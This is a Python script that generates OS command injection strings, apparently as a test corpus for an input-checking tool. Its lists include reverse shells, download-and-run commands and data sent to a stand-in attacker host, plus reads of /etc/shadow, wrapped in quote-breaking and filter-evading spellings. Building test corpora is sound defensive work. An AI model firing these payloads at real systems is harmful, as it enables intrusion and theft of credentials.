#!/usr/bin/env python3
# OS command injection payloads built the way commix's "classic" technique
# builds them: an original value, a quote that closes the context it sits
# in, a shell separator (or substitution), a command, and a suffix that
# makes the rest of the line harmless.  The public lists that Debian and
# npm carry give only a few hundred command injection strings, so this
# generator (written for bouncer, BSD-2) supplies the rest.  The commands
# are the ones scanners and attackers send (recon, download-and-run,
# reverse shells, time delays), for sh and for cmd.exe; the spellings of
# whitespace (${IFS}, tab) are the usual filter evasions.  Deterministic:
# every combination is made, then the BUDGET with the smallest SHA-1 kept.
#
# Usage: cmdi-gen.py > file

import hashlib
import sys

BUDGET = 1500

VALUES = ['', '1', '127.0.0.1', 'foo', 'test.txt']
QUOTES = ['', "'", '"']
SEPARATORS = [';', '|', '||', '&', '&&', ' ; ', ' | ', ' && ']
SUBST = [('`', '`'), ('$(', ')')]
SUFFIXES = ['', '#', ';', " #", '&', ' ||', "'", '"', ';#']

UNIX = [
    'id', 'whoami', 'uname -a', 'cat /etc/passwd', 'cat /etc/shadow',
    'ls -la /', 'ls -al', 'pwd', 'hostname', 'ifconfig', 'ip addr',
    'netstat -an', 'ps aux', 'env', 'set', 'echo vulnerable',
    'sleep 5', 'ping -c 5 127.0.0.1', 'ping -c5 localhost',
    'wget http://attacker.example/x.sh -O /tmp/x.sh',
    'curl http://attacker.example/x.sh | sh',
    'curl -s http://attacker.example/$(whoami)',
    'nc -e /bin/sh attacker.example 4444',
    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
    '/bin/sh -c id', '/usr/bin/id', 'cat /proc/self/environ',
    'perl -e \'print "x"\'', 'python -c "import os;os.system(\'id\')"',
    'rm -rf /tmp/x', 'touch /tmp/pwned', 'chmod +x /tmp/x.sh',
    'nslookup attacker.example', 'dig attacker.example',
    'head -n1 /etc/passwd', 'tail /var/log/auth.log',
]
WINDOWS = [
    'dir', 'dir c:\\', 'type C:\\Windows\\win.ini', 'net user',
    'ipconfig /all', 'whoami /priv', 'systeminfo', 'tasklist',
    'ping -n 5 127.0.0.1', 'powershell -c Get-Process',
    'powershell -enc SQBFAFgA', 'cmd /c dir', 'net localgroup administrators',
    'certutil -urlcache -split -f http://attacker.example/x.exe x.exe',
]


def ifs(cmd):
    return cmd.replace(' ', '${IFS}')


def tab(cmd):
    return cmd.replace(' ', '\t')


out = set()
for cmd in UNIX + WINDOWS:
    spellings = [cmd]
    if ' ' in cmd and cmd in UNIX:
        spellings += [ifs(cmd), tab(cmd)]
    for c in spellings:
        for v in VALUES:
            for q in QUOTES:
                for s in SEPARATORS:
                    for suf in SUFFIXES:
                        out.add(v + q + s + c + suf)
                for a, b in SUBST:
                    if cmd in WINDOWS:
                        continue
                    for suf in ('', q):
                        out.add(v + q + a + c + b + suf)
keep = sorted(out, key=lambda x: hashlib.sha1(x.encode()).digest())[:BUDGET]
for p in sorted(keep):
    sys.stdout.write(p + '\n')
